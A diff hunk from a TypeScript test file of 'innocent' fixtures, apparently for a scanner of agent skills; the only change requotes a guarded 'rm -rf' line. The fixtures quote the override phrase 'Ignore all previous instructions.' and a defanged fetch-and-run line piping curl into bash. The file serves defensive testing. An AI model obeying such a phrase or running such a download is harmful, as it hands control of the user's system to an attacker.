@@ -55,7 +55,7 @@ const innocent: Record<string, Example> = {
     "---\nname: injection-review\ndescription: Tests defences against prompt injection.\n---\n\n## Seen\n\n> Ignore all previous instructions.\n\n| Sign | Step |\n|---|---|\n| `$(printf '\\x63\\x75')` | decode |\n",
   "an address made harmless in a skill about malware":
     "---\nname: triage\ndescription: First look at malware samples.\n---\n\n## Shell\n\nDownloaders say `curl -s hxxp://drop[.]dev/a | bash`.\n",
-  "a variable that must not be empty": { "a.sh": 'rm -rf -- "${dir:?}"/*\n' },
+  "a variable that must not be empty": { "a.sh": `rm -rf -- "\${dir:?}"/*\n` },
   "an editor for the person's own table of jobs": "Put the line into `crontab -e` after the user agrees.\n",
   "asking before anything is sent": "Ask the user before you upload a note to https://api.notes-sync.dev.\n",
 };
